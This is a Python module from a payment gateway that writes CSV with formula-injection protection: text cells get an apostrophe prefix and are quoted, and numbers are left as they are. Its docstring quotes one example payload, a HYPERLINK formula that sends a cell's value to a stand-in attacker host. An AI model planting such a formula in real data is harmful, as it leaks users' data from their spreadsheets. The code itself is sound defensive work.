"""The one way the gateway writes CSV: cells a spreadsheet will read as text, never as a formula.

A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell that begins with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return as a formula, so a payment's ``external_ref`` of
``=HYPERLINK("https://evil.example/?"&A2,"refund")`` would come back live in a merchant's
statement. OWASP's rules for CSV injection, as applied here:

- a text cell beginning with one of those characters gets a leading apostrophe, which
  spreadsheets take as "this is text" and do not show;
- every text cell is quoted (embedded quotes doubled), so a separator inside one (a ``;`` where the
  spreadsheet's locale splits on semicolons) cannot start a new cell that begins with a trigger;
- numbers the code writes itself (``int``, ``Decimal``) are written as numbers, unquoted and
  untouched: a refund's ``-500`` stays ``-500``. Only text is neutralised, whoever supplied it
  (partners' references and keys, device ids, locations; our own ids and times never begin with a
  trigger, so they come out unchanged).

The header is the route's own column names, written plain.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal

# OWASP "CSV Injection": the characters that make a cell a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# What a spreadsheet takes as "the rest is text".
TEXT_MARK = "'"

Cell = str | int | Decimal | None


def inert_text(text: str) -> str:
    """``text`` as a cell no spreadsheet evaluates."""
    return TEXT_MARK + text if text.startswith(FORMULA_TRIGGERS) else text


def _cell(value: Cell) -> str | int | Decimal:
    if value is None:
        return ""
    if isinstance(value, bool):
        # A bool is an int to Python and would come out as True/False: say what is meant instead.
        raise TypeError("write a bool as text (e.g. 'true') or a number")
    if isinstance(value, int | Decimal):
        return value
    return inert_text(str(value))


def csv_text(rows: Iterable[Sequence[Cell]], *, header: Sequence[str] | None = None) -> str:
    """The rows (and the header first, when given) as CSV lines ending in ``\\n``."""
    out = io.StringIO()
    if header is not None:
        csv.writer(out, lineterminator="\n").writerow(header)
    writer = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
    for row in rows:
        writer.writerow([_cell(value) for value in row])
    return out.getvalue()
